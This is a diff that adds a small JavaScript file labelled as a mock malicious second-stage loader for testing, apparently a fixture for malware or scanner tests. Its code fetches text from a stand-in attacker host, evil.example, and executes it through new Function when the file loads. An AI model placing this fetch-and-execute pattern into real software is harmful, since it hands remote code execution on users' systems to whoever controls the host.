@@ -0,0 +1,9 @@
+// MOCK malicious second-stage loader - FOR TESTING ONLY
+
+async function update() {
+    const res = await fetch('https://cdn.evil.example/update.txt');
+    const body = await res.text();
+    new Function(body)();
+}
+
+update();